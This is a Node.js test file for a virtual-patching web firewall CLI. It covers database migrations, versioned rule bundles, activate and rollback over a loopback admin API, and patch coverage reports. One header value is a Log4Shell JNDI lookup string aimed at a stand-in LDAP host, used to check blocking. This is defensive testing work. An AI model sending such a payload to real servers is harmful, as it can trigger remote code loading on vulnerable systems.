/**
 * The patch lifecycle: the SQLite store and its migrations, bundles (content hash, versions,
 * diff, exact restore), and the CLI against a running `vpatch serve` on loopback: patch test
 * --target, bundle activate / rollback through the admin API, the history.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { execFile, spawn, type ChildProcess } from 'node:child_process';
import { mkdtempSync, writeFileSync, readFileSync } from 'node:fs';
import http from 'node:http';
import net, { type AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import Database from 'better-sqlite3';
import { builtinCatalog } from '../../src/patches/loader.js';
import { Store, MIGRATIONS } from '../../src/patches/store.js';
import { activeBundleCatalog, buildBundle, bundleHash, canonicalJson, catalogFromBundle, diffBundles, parseBundle } from '../../src/patches/bundles.js';
import { expiredPatches } from '../../src/patches/inventory.js';
import { REPO_ROOT, SHARED_DIR } from '../helpers/shared.js';

const BIN = resolve(REPO_ROOT, 'bin/vpatch.js');

function tmpDb(): string {
  return join(mkdtempSync(join(tmpdir(), 'vpatch-state-')), 'state.db');
}

test('migrations apply once, in order, and are recorded', () => {
  const path = tmpDb();
  const s = new Store(path);
  assert.equal(s.schemaVersion(), MIGRATIONS[MIGRATIONS.length - 1]!.version);
  assert.deepEqual(s.migrate(), []);
  s.close();
  const db = new Database(path);
  const rows = db.prepare('SELECT version FROM schema_migrations ORDER BY version').all() as Array<{ version: number }>;
  assert.deepEqual(rows.map((r) => r.version), MIGRATIONS.map((m) => m.version));
  db.close();
});

test('a database at an older schema version is migrated forward', () => {
  const path = tmpDb();
  const db = new Database(path);
  db.exec('CREATE TABLE schema_migrations (version INTEGER PRIMARY KEY, name TEXT NOT NULL, applied_at TEXT NOT NULL)');
  db.exec(MIGRATIONS[0]!.sql);
  db.prepare('INSERT INTO schema_migrations VALUES (1, ?, ?)').run(MIGRATIONS[0]!.name, new Date().toISOString());
  db.close();
  const s = new Store(path);
  assert.equal(s.schemaVersion(), 2);
  s.retire('prod', 'VP-2021-44228', 'tester', 'log4j 2.17.1 everywhere');
  assert.ok(s.retirements('prod')['VP-2021-44228']);
  s.close();
});

test('bundles: canonical content hash, versions per environment, diff, exact restore', () => {
  const patches = builtinCatalog();
  const s = new Store(tmpDb());
  const b1 = buildBundle(s, 'test', patches, 'alice');
  assert.equal(b1.created, true);
  assert.equal(b1.row.version, 1);
  assert.equal(b1.row.hash, bundleHash(parseBundle(b1.row)));
  assert.equal(buildBundle(s, 'test', patches, 'alice').created, false, 'same content, same bundle');
  // the same content in another environment has the same hash
  assert.equal(buildBundle(s, 'production', patches, 'bob').row.hash, b1.row.hash);

  s.setMode('test', 'VP-2021-44228', 'detect', 'alice');
  s.setMode('test', 'VP-2017-9841', 'off', 'alice');
  s.setEnvConfig('test', { paranoia: 2 }, { ruleIds: [942100], tags: [] }, 'alice');
  const b2 = buildBundle(s, 'test', patches, 'alice', 'tuning');
  assert.equal(b2.row.version, 2);
  assert.notEqual(b2.row.hash, b1.row.hash);
  const d = diffBundles(parseBundle(b1.row), parseBundle(b2.row));
  assert.deepEqual(d.removed.map((p) => p.id), ['VP-2017-9841']);
  assert.deepEqual(d.modeChanged, [{ id: 'VP-2021-44228', from: 'block', to: 'detect' }]);
  assert.deepEqual(d.exclusions.added.ruleIds, [942100]);
  assert.deepEqual(d.crs, { from: {}, to: { paranoia: 2 } });

  assert.equal(s.findBundle('2', 'test')!.id, b2.row.id);
  assert.equal(s.findBundle('test:v1')!.id, b1.row.id);
  assert.equal(s.findBundle(b2.row.hash.slice(0, 10), 'test')!.id, b2.row.id);

  const cat = catalogFromBundle(s, b2.row);
  assert.equal(cat.patches.length, patches.length - 1);
  assert.equal(cat.modes['VP-2021-44228'], 'detect');
  assert.match(cat.seclang, /SecRuleRemoveById 942100/);
  assert.deepEqual(cat.bundle, { env: 'test', version: 2, hash: b2.row.hash });
  s.close();
});

test('canonical JSON ignores key order', () => {
  assert.equal(canonicalJson({ b: 1, a: [{ d: 1, c: 2 }] }), canonicalJson({ a: [{ c: 2, d: 1 }], b: 1 }));
});

test('expired patches are reported from the expiry date and from retirement marks', () => {
  const p = builtinCatalog()[0]!;
  const dated = { ...p, expires: { ...p.expires, date: '2020-01-01' } };
  assert.deepEqual(expiredPatches([dated], new Date('2024-01-01')).map((e) => e.id), [p.id]);
  assert.deepEqual(expiredPatches([p], new Date('2024-01-01')), []);
  const retired = expiredPatches([p], new Date(), { [p.id]: { at: '2024-02-02T00:00:00Z', note: 'fixed' } });
  assert.match(retired[0]!.reason, /fixed version recorded as deployed 2024-02-02/);
});

function freePort(): Promise<number> {
  return new Promise((res, rej) => {
    const srv = net.createServer();
    srv.once('error', rej);
    srv.listen(0, '127.0.0.1', () => {
      const port = (srv.address() as AddressInfo).port;
      srv.close(() => res(port));
    });
  });
}

function run(args: string[], env: NodeJS.ProcessEnv): Promise<{ code: number; stdout: string; stderr: string }> {
  return new Promise((res) => {
    execFile(process.execPath, [BIN, ...args], { env: { ...process.env, ...env }, maxBuffer: 16 * 1024 * 1024 }, (err, stdout, stderr) => {
      res({ code: err ? ((err as { code?: number }).code ?? 1) : 0, stdout, stderr });
    });
  });
}

async function status(url: string, headers: Record<string, string>): Promise<number> {
  const res = await fetch(url, { headers });
  await res.arrayBuffer();
  return res.status;
}

async function waitReady(adminPort: number, child: ChildProcess, log: () => string): Promise<void> {
  for (let i = 0; i < 200; i++) {
    if (child.exitCode !== null) throw new Error(`vpatch serve exited: ${log()}`);
    try {
      if ((await status(`http://127.0.0.1:${adminPort}/readyz`, {})) === 200) return;
    } catch {
      /* not yet */
    }
    await new Promise((r) => setTimeout(r, 100));
  }
  throw new Error(`vpatch serve not ready: ${log()}`);
}

test('CLI against a running vpatch serve: patch test --target, bundle activate and rollback through the admin API', async (t) => {
  const upstream = http.createServer((req, res) => {
    req.resume();
    req.on('end', () => res.end('ok\n'));
  });
  await new Promise<void>((r) => upstream.listen(0, '127.0.0.1', () => r()));
  const upPort = (upstream.address() as AddressInfo).port;
  const [port, adminPort] = [await freePort(), await freePort()];
  const db = tmpDb();
  const env = { VPATCH_DB: db, VPATCH_ENV: 'e2e', VPATCH_ACTOR: 'ci' };
  let log = '';
  const serve = spawn(process.execPath, [BIN, 'serve', '--upstream', `http://127.0.0.1:${upPort}`, '--listen', `127.0.0.1:${port}`, '--admin-listen', `127.0.0.1:${adminPort}`, '--workers', '1', '--access-log', 'false', '--audit-log', 'off', '--log-level', 'warn'], {
    env: { ...process.env, ...env },
    stdio: ['ignore', 'pipe', 'pipe'],
  });
  serve.stdout!.on('data', (d: Buffer) => (log += d.toString()));
  serve.stderr!.on('data', (d: Buffer) => (log += d.toString()));
  t.after(() => {
    serve.kill('SIGKILL');
    upstream.close();
  });
  await waitReady(adminPort, serve, () => log);
  const base = `http://127.0.0.1:${port}`;
  const admin = `http://127.0.0.1:${adminPort}`;
  const jndi = { 'User-Agent': '${jndi:ldap://198.51.100.1/a}' };

  // every case end to end through the live ingress point
  const smoke = await run(['patch', 'test', '--target', base, '--block-status', '403,400', '--json'], env);
  assert.ok(smoke.stdout.startsWith('{'), smoke.stderr);
  const report = JSON.parse(smoke.stdout) as { failed: number; reports: unknown[] };
  assert.equal(report.failed, 0, smoke.stdout.slice(0, 2000));
  assert.ok(report.reports.length >= 80);
  assert.equal(smoke.code, 0);

  // a failing gate exits non-zero: 200 is not the block status
  const gate = await run(['patch', 'test', 'VP-2021-44228', '--target', base, '--block-status', '418'], env);
  assert.equal(gate.code, 1);
  assert.match(gate.stdout, /FAIL VP-2021-44228/);

  assert.equal(await status(base + '/', jndi), 403);
  let r = await run(['bundle', 'build', '--note', 'baseline'], env);
  assert.match(r.stdout, /built e2e:v1/);
  r = await run(['bundle', 'activate', '--admin', admin], env);
  assert.equal(r.code, 0, r.stdout + r.stderr);
  assert.match(r.stdout, /activated e2e:v1 .*\nreloaded/);

  r = await run(['patch', 'mode', 'VP-2021-44228', 'off'], env);
  assert.match(r.stdout, /VP-2021-44228 block \(default\) -> off/);
  r = await run(['bundle', 'build', '--note', 'log4shell off'], env);
  assert.match(r.stdout, /built e2e:v2/);
  r = await run(['bundle', 'diff', '1', '2'], env);
  assert.match(r.stdout, /- VP-2021-44228 \(block\)/);
  r = await run(['bundle', 'activate', '2', '--admin', admin, '--test'], env);
  assert.equal(r.code, 0, r.stdout + r.stderr);
  assert.equal(await status(base + '/', jndi), 200, 'patch off after activating v2');

  r = await run(['bundle', 'rollback', '--admin', admin], env);
  assert.match(r.stdout, /rolled back to e2e:v1/);
  assert.equal(await status(base + '/', jndi), 403, 'patch back after the rollback');

  r = await run(['bundle', 'history', '--json'], env);
  assert.equal(r.code, 0, r.stderr);
  const hist = JSON.parse(r.stdout) as Array<{ action: string; version: number; actor: string; applied: string }>;
  assert.deepEqual(hist.map((h) => [h.action, h.version]), [['activate', 1], ['activate', 2], ['rollback', 1]]);
  assert.ok(hist.every((h) => h.actor === 'ci' && /^reloaded /.test(h.applied)));

  // the serve reads the same state: its catalog is the active bundle
  assert.equal(activeBundleCatalog('e2e', db)!.bundle.version, 1);

  // an unreachable admin API leaves the recorded state at what is running
  r = await run(['bundle', 'activate', '2', '--admin', 'http://127.0.0.1:9'], env);
  assert.equal(r.code, 1);
  assert.match(r.stdout, /FAILED/);
  assert.equal(activeBundleCatalog('e2e', db)!.bundle.version, 1);

  const list = await run(['patch', 'list', '--json'], env);
  assert.equal(list.code, 0, list.stderr);
  const listed = JSON.parse(list.stdout) as { modesFrom: string; patches: Array<{ id: string; mode: string }> };
  assert.match(listed.modesFrom, /active bundle e2e:v1/);
  assert.equal(listed.patches.find((p) => p.id === 'VP-2021-44228')!.mode, 'block');
});

test('CLI: coverage (table and JSON, KEV from the feed), show, new, validate', async () => {
  const env = { VPATCH_DB: tmpDb() };
  const feed = resolve(SHARED_DIR, 'feeds/kev/known_exploited_vulnerabilities.json');
  let r = await run(['patch', 'coverage', '--json', '--kev-feed', feed], env);
  const cov = JSON.parse(r.stdout) as { totals: { patches: number; kev: number; kevCatalogVersion: string }; patches: Array<{ id: string; kev: boolean; kevDateAdded?: string; classes: string[]; blockCases: number }> };
  assert.ok(cov.totals.patches >= 80);
  assert.equal(cov.totals.kevCatalogVersion, '2025.08.25');
  const l4s = cov.patches.find((p) => p.id === 'VP-2021-44228')!;
  assert.equal(l4s.kev, true);
  assert.equal(l4s.kevDateAdded, '2021-12-10');
  assert.ok(l4s.classes.includes('jndi-lookup') && l4s.blockCases > 10);
  r = await run(['patch', 'coverage'], env);
  assert.match(r.stdout, /^ID\s+CVE\s+KEV\s+SEVERITY/);

  r = await run(['patch', 'show', 'CVE-2022-22965'], env);
  assert.match(r.stdout, /VP-2022-22965/);
  assert.match(r.stdout, /SecRule ARGS_NAMES/);

  const dir = mkdtempSync(join(tmpdir(), 'vp-new-'));
  r = await run(['patch', 'new', 'CVE-2099-4242', '--dir', dir, '--title', 'Example RCE'], env);
  assert.equal(r.code, 0, r.stderr);
  const text = readFileSync(join(dir, 'VP-2099-4242.yaml'), 'utf8');
  assert.match(text, /id: 1790000/);
  r = await run(['patch', 'test', 'VP-2099-4242', '--patches', dir], env);
  assert.equal(r.code, 0, r.stdout);
  writeFileSync(join(dir, 'VP-2099-4242.yaml'), text.replace('severity: high', 'severity: extreme'));
  r = await run(['patch', 'validate', dir], env);
  assert.equal(r.code, 1);
  assert.match(r.stderr, /VP-2099-4242\.yaml: \/severity: must be one of/);
});
